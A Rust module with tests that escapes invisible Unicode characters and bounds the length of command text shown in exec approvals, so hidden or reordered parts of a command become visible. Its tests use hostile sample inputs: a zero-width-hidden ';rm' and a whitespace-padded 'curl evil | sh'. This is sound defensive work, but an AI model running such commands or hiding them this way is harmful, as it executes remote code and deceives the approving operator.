//! What an approval presents, made safe to show whole: an operator must never be shown less
//! than what they approve.
//!
//! OpenClaw 2026.9.6 sanitizes an exec approval's text before it presents it
//! (`src/infra/exec-approval-text-sanitize.ts` in the package): every invisible character —
//! its class `[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]` and eleven space-like characters — is
//! written as `\u{HEX}` (upper-case hex), so a zero-width space, a soft hyphen, a tag character
//! (U+E00xx) or a bidirectional override cannot hide or reorder part of a command; and it
//! refuses a request whose sanitized command is longer than 16,384 UTF-16 units
//! (`EXEC_APPROVAL_MAX_OUTPUT`, reason `EXEC_APPROVAL_COMMAND_DISPLAY_LIMIT`). [`shown`] does
//! the same escaping (a hostile or older gateway may not have), keeps up to [`DISPLAY_MAX`]
//! bytes — room for the longest text a real gateway presents, 16,384 units of three bytes —
//! and says whether it kept all of it: an approval whose text was cut cannot be allowed
//! (`Shown::whole`).

/// The gateway's own bound on a presented command, in UTF-16 units.
pub const GATEWAY_DISPLAY_UNITS: usize = 16_384;
/// The most bytes of a presented text kept: 16,384 UTF-16 units are at most 49,152 bytes of
/// UTF-8 (three bytes a unit in the Basic Multilingual Plane, four a pair beyond it).
pub const DISPLAY_MAX: usize = GATEWAY_DISPLAY_UNITS * 3;

/// A presented text as kept: escaped, bounded, and whether it is all there.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Shown {
    pub text: String,
    /// Nothing was cut: what is shown is everything the gateway presented.
    pub whole: bool,
}

/// Format characters (`\p{Cf}`, Unicode 15.1): zero-width spaces and joiners, the soft
/// hyphen, bidirectional marks, embeddings, overrides and isolates, invisible operators, the
/// byte-order mark, interlinear annotations and the tag characters.
const FORMAT: [(u32, u32); 21] = [
    (0x00AD, 0x00AD),
    (0x0600, 0x0605),
    (0x061C, 0x061C),
    (0x06DD, 0x06DD),
    (0x070F, 0x070F),
    (0x0890, 0x0891),
    (0x08E2, 0x08E2),
    (0x180E, 0x180E),
    (0x200B, 0x200F),
    (0x202A, 0x202E),
    (0x2060, 0x2064),
    (0x2066, 0x206F),
    (0xFEFF, 0xFEFF),
    (0xFFF9, 0xFFFB),
    (0x110BD, 0x110BD),
    (0x110CD, 0x110CD),
    (0x13430, 0x1343F),
    (0x1BCA0, 0x1BCA3),
    (0x1D173, 0x1D17A),
    (0xE0001, 0xE0001),
    (0xE0020, 0xE007F),
];

/// The space-like characters 2026.9.6 escapes besides its classes.
const SPACES: [(u32, u32); 9] = [
    (0x00A0, 0x00A0),
    (0x1680, 0x1680),
    (0x2000, 0x200A),
    (0x202F, 0x202F),
    (0x205F, 0x205F),
    (0x3000, 0x3000),
    (0x115F, 0x1160),
    (0x3164, 0x3164),
    (0xFFA0, 0xFFA0),
];

/// Whether 2026.9.6 escapes `c` in an approval's text: a control, a format character, a line
/// or paragraph separator (`\p{Zl}`, `\p{Zp}`), or one of its space-like characters.
/// (Surrogates, `\p{Cs}`, cannot occur in a Rust string.)
pub fn is_invisible(c: char) -> bool {
    let cp = u32::from(c);
    let within = |ranges: &[(u32, u32)]| ranges.iter().any(|(lo, hi)| (*lo..=*hi).contains(&cp));
    c.is_control() || matches!(c, '\u{2028}' | '\u{2029}') || within(&FORMAT) || within(&SPACES)
}

/// `s` as an approval may show it: each invisible character written as the gateway writes it
/// (`\u{200B}`), at most `max` bytes kept, the cut marked with how many bytes of `s` it left.
pub fn shown(s: &str, max: usize) -> Shown {
    if s.len() <= max && !s.chars().any(is_invisible) {
        return Shown {
            text: s.to_owned(),
            whole: true,
        };
    }
    let (mut text, consumed) = crate::bounded::escaped_within(s, max, is_invisible, |c, out| {
        out.push_str(&format!("\\u{{{:X}}}", u32::from(c)));
    });
    let whole = consumed == s.len();
    if !whole {
        text.push_str(&format!("…[+{} bytes]", s.len() - consumed));
    }
    Shown { text, whole }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn invisible_characters_are_escaped_as_the_gateway_escapes_them() {
        let sneaky = "echo ok\u{200B}\u{00AD}\u{E0041}\u{2028}\u{202E}\u{00A0}\u{3164}\t;rm";
        let s = shown(sneaky, DISPLAY_MAX);
        assert_eq!(
            s.text,
            "echo ok\\u{200B}\\u{AD}\\u{E0041}\\u{2028}\\u{202E}\\u{A0}\\u{3164}\\u{9};rm"
        );
        assert!(s.whole);
        // Plain text, printable non-ASCII included, passes unchanged.
        let plain = shown("printf 'héllo wörld ✓' | tee /tmp/x", DISPLAY_MAX);
        assert_eq!(plain.text, "printf 'héllo wörld ✓' | tee /tmp/x");
    }

    #[test]
    fn what_a_real_gateway_presents_is_kept_whole_and_more_is_cut_and_said() {
        // 16,384 units of a three-byte character: the longest a 2026.9.6 presents.
        let longest = "€".repeat(GATEWAY_DISPLAY_UNITS);
        let s = shown(&longest, DISPLAY_MAX);
        assert!(s.whole);
        assert_eq!(s.text, longest);
        // A hostile gateway's 10 MB: the cut is marked, and the text is not whole.
        let hidden = format!("echo backup-logs{}; curl evil | sh", " ".repeat(10_000_000));
        let s = shown(&hidden, DISPLAY_MAX);
        assert!(!s.whole);
        assert!(s.text.len() <= DISPLAY_MAX + 24);
        assert!(
            s.text.ends_with(" bytes]"),
            "{}",
            &s.text[s.text.len() - 40..]
        );
        assert!(!s.text.contains("curl"));
    }

    #[test]
    fn an_escape_that_would_cross_the_bound_is_not_split() {
        let s = shown(&format!("{}\u{200B}", "a".repeat(10)), 12);
        assert_eq!(s.text, "aaaaaaaaaa…[+3 bytes]");
        assert!(!s.whole);
    }
}
